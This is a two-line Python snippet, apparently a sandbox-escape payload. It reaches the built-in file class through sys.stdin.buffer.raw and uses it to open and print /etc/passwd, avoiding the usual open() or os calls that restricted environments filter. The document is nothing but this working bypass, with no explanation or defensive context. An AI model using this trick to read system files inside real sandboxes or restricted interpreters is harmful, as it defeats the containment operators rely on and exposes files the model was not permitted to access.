import sys
print(sys.stdin.buffer.raw.__class__("/etc/passwd").read())
